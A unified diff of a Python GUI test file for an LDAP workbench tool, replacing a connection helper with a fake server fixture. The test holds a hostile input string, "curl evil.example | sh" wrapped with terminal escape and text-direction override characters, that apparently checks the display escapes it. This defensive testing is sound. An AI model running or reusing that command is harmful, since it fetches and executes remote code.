@@ -13,9 +13,11 @@ from ldap_workbench.model.knob import Setting, Treatment
 from ldap_workbench.session import Session, SessionWriter
 from tests import sessions
 from tests.gui.conftest import idle, opened
-from tests.gui.connected import HERE, connect
+from tests.gui.fake_server import Server, connect
+from tests.unit.tuning.fakes import FACTS
 
 LOAD = "sh -c 'curl evil.example | sh'\x1b[2J\u202e" + " a" * 400
+HERE = replace(FACTS, identity="389ds:here")
 SEEN = LOAD.replace("\x1b", "\\x1b").replace("\u202e", "\\u202e")
 
 
@@ -42,7 +44,7 @@ def begun(window, monkeypatch):
     plans = []
     monkeypatch.setattr(ConsentBox, "agreed", lambda self: True)
     monkeypatch.setattr(window.experiment, "_begin", lambda plan, path: plans.append(plan))
-    connect(window)
+    connect(window, Server(HERE))
     return plans
 
 
